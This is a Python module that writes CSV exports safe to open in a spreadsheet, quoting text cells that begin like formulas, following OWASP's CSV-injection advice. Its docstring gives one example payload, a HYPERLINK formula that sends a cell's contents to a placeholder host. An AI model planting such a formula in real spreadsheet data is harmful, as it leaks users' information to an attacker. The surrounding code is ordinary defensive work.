"""Every CSV file plansite writes, written one way: safe to open in a spreadsheet.

A spreadsheet reads a cell that starts with =, +, -, @, a tab or a carriage return as a formula,
so a school or district name such as =HYPERLINK("http://x.example/?leak="&A2,"x") would run when
a download is opened. As OWASP advises (CSV injection), such a text cell is written with a single
quote in front, which makes it text. Numbers stay numbers: a numeric value, or a text that is
only a number (-5, +3.5, 12%), cannot call anything and is written as it is.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def safe_cell(value: Any) -> Any:
    """The cell as written: None as empty, numbers as they are, a formula-like text quoted."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    head = text.lstrip(" \n")  # some spreadsheets skip leading blanks before reading a formula
    if head.startswith(FORMULA_START) and not _NUMBER.fullmatch(head.strip()):
        return "'" + text
    return text


def csv_text(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A CSV document with a UTF-8 byte-order mark (spreadsheets then read the Chinese), CRLF lines."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([safe_cell(c) for c in header])
    for row in rows:
        writer.writerow([safe_cell(c) for c in row])
    return "\ufeff" + buf.getvalue()
